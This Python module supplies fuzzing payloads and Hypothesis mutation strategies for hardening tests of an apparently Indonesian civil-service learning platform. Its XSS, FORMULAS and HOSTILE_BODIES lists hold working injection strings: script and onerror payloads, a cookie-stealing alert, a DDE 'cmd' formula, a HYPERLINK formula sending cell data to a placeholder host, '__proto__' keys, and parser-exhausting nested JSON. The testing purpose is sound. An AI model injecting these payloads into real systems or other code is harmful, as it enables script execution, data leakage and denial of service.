"""Payloads for the hardening tests: what a browser would send next (worked out from the
learner payload the browser holds, as the front ends do), and Hypothesis strategies that
mutate it or replace it with junk: wrong types, unknown/foreign ids, sizes, unicode,
nesting."""
from __future__ import annotations

import copy
import json
from typing import Any

from hypothesis import strategies as st

XSS = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</script><script>alert(document.cookie)</script>",
    "<svg onload=alert(1)>",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "<a href=\"javascript:alert(1)\">klik</a>",
]
FORMULAS = ["=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"klik\")", "+1+2", "-2+3", "@SUM(A1:A9)",
            "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
UNICODE = ["Ãñ 漢字 😀 عربى", "\u200b\u200e\u202e", "\x00", "\ud800", "\udfff\ud800", "e\u0301",
           "\ufeff", "𝕏" * 50, "Rp1.500.000 < Rp2.000.000 & \"kutip\""]


def json_values(max_leaves: int = 12):
    scalars = (st.none() | st.booleans() | st.integers(min_value=-(2**70), max_value=2**70)
               | st.floats(allow_nan=True, allow_infinity=True)
               | st.text(max_size=40) | st.sampled_from(XSS + UNICODE + FORMULAS))
    return st.recursive(scalars, lambda inner: st.lists(inner, max_size=4)
                        | st.dictionaries(st.text(max_size=12), inner, max_size=4),
                        max_leaves=max_leaves)


def interesting_strings(ids: list[str]):
    """Strings a handler must survive: ids from elsewhere in the content, unicode, XSS,
    formulas, huge text."""
    return st.one_of(
        st.sampled_from(ids or ["x"]),
        st.sampled_from(XSS + UNICODE + FORMULAS + ["", " ", "None", "null", "0", "-1"]),
        st.text(max_size=80),
        st.integers(min_value=1, max_value=70_000).map(lambda n: "kata " * (n // 5)),
    )


# --- what a browser sends next ----------------------------------------------------------------

def next_action(tag: str, payload: dict[str, Any]) -> dict[str, Any] | None:
    """The next valid step for this learner payload, or None when none is possible."""
    view = payload.get("view")
    if not view or payload.get("drift") or payload.get("locked"):
        return None
    if view.get("finished"):
        return None
    if tag == "asn_case_study":
        stage = next((s for s in view["stages"] if s["status"] == "current"), None)
        if stage is None:
            return None
        answers: dict[str, Any] = {}
        for item in stage["items"]:
            if item["type"] == "question" and item["kind"] == "classify":
                first = item["categories"][0]["id"]
                answers[item["id"]] = {statement["id"]: first for statement in item["items"]}
            elif item["type"] == "question" and item["kind"] == "numeric":
                answers[item["id"]] = item["format"]["decimal"]
            elif item["type"] == "question":
                first = item["options"][0]["id"]
                answers[item["id"]] = [first] if item["kind"] == "multiple" else first
            else:
                words = max(item.get("min_words") or 0, 5)
                if item.get("max_words"):
                    words = min(words, item["max_words"])
                answers[item["id"]] = " ".join(["kata"] * words)
        return {"type": "submit_stage", "stage": stage["id"], "answers": answers}
    if tag == "asn_change_simulation":
        node = view.get("node")
        if not node or not node.get("choices"):
            return None
        return {"type": "choose", "choice": node["choices"][0]["id"]}
    request_id = next((q["id"] for q in view["queue"] if q["status"] != "submitted"), None)
    if request_id is None:
        return None
    request = view["requests"][request_id]
    if request.get("kind") == "record":
        return {"type": "submit_record", "record": request_id,
                "form": {"code": view["archive"]["scheme"][0]["code"], "access": "biasa",
                         "active": 1, "inactive": 1, "disposition": "musnah"}}
    return {"type": "submit_request", "request": request_id,
            "form": {"requirements": {r["id"]: {"met": True}
                                      for r in request["service"]["requirements"]},
                     "decision": "approve", "route": view["units"][0]["id"],
                     "due": "2026-03-20"}}


def next_draft(tag: str, payload: dict[str, Any], text: str = "draf yang sedang ditulis") \
        -> dict[str, Any] | None:
    view = payload.get("view")
    if not view or view.get("finished") or payload.get("drift"):
        return None
    if tag == "asn_case_study":
        stage = next((s for s in view["stages"] if s["status"] == "current"), None)
        reflection = next((i for i in (stage or {}).get("items", []) if i["type"] == "reflection"),
                          None)
        return {"reflection": reflection["id"], "text": text} if reflection else None
    if tag == "asn_digital_service":
        task = next((q for q in view["queue"] if q["status"] != "submitted"), None)
        if task is None:
            return None
        key = "record" if task.get("kind") == "record" else "request"
        return {key: task["id"], "form": {"note": text}}
    return None  # the simulation has no drafts


def ids_in(payload: Any) -> list[str]:
    """Every id-looking string of a learner payload (to reuse in the wrong places)."""
    found: list[str] = []

    def walk(value):
        if isinstance(value, dict):
            for key, item in value.items():
                if key == "id" and isinstance(item, str):
                    found.append(item)
                walk(item)
        elif isinstance(value, list):
            for item in value:
                walk(item)

    walk(payload)
    return sorted(set(found))[:60]


# --- mutation ----------------------------------------------------------------------------------

def paths(value: Any, prefix: tuple = ()) -> list[tuple]:
    out = [prefix]
    if isinstance(value, dict):
        for key, item in value.items():
            out += paths(item, prefix + (key,))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            out += paths(item, prefix + (index,))
    return out


def _set(root: Any, path: tuple, value: Any) -> Any:
    if not path:
        return value
    parent = root
    for key in path[:-1]:
        parent = parent[key]
    parent[path[-1]] = value
    return root


def _delete(root: Any, path: tuple) -> Any:
    if not path:
        return {}
    parent = root
    for key in path[:-1]:
        parent = parent[key]
    del parent[path[-1]]
    return root


def mutate(data, payload: dict[str, Any], ids: list[str]) -> dict[str, Any]:
    """One or more mutations of a valid payload, drawn by Hypothesis."""
    result = copy.deepcopy(payload)
    for _ in range(data.draw(st.integers(1, 3), label="mutations")):
        where = data.draw(st.sampled_from(paths(result)), label="path")
        how = data.draw(st.sampled_from(["value", "string", "delete", "extra", "version",
                                         "nest", "wrap"]), label="how")
        if how == "value":
            result = _set(result, where, data.draw(json_values(), label="value"))
        elif how == "string":
            result = _set(result, where, data.draw(interesting_strings(ids), label="string"))
        elif how == "delete" and where:
            result = _delete(result, where)
        elif how == "extra" and isinstance(result, dict):
            target = result
            for key in where:
                if isinstance(target, (dict, list)):
                    target = target[key]
            if isinstance(target, dict):
                target[data.draw(st.sampled_from(ids + ["__proto__", "id", "learner", "finished",
                                                        "score", "version"]), label="key")] = \
                    data.draw(json_values(4), label="extra value")
        elif how == "version" and isinstance(result, dict):
            version = result.get("version", 0)
            if isinstance(version, bool) or not isinstance(version, int):
                version = 0
            result["version"] = data.draw(st.sampled_from([
                version - 1, version + 1, -1, 2**31, 2**64, str(version), float(version), True,
                None, [version]]), label="version")
        elif how == "nest":
            inner = _get(result, where)
            depth = data.draw(st.sampled_from([2, 50, 400]), label="depth")
            for _level in range(depth):
                inner = [inner]
            result = _set(result, where, inner)
        elif how == "wrap":
            result = _set(result, where, {"value": _get(result, where)})
        if not isinstance(result, dict):
            break
    return result


def _get(root: Any, path: tuple) -> Any:
    for key in path:
        root = root[key]
    return root


HOSTILE_BODIES = [
    b"", b"{", b"null", b"[]", b"\"text\"", b"123", b"{\"version\": NaN}",
    b"\xff\xfe\xfa", b"{\"version\": 1, \"action\": {\"type\": \"\xc3\x28\"}}",
    b"[" * 5000 + b"]" * 5000,  # deeper than the JSON parser's recursion limit
    b"{\"a\":" * 3000 + b"1" + b"}" * 3000,
    b"{\"version\": 0, \"action\": " + b"[" * 800 + b"]" * 800 + b"}",
    json.dumps({"version": 0, "pad": "x" * 300_000}).encode(),  # over the body limit
    json.dumps({"version": 0, "action": {"type": "submit_stage", "answers": {
        f"k{i}": "v" for i in range(20000)}}}).encode(),
]
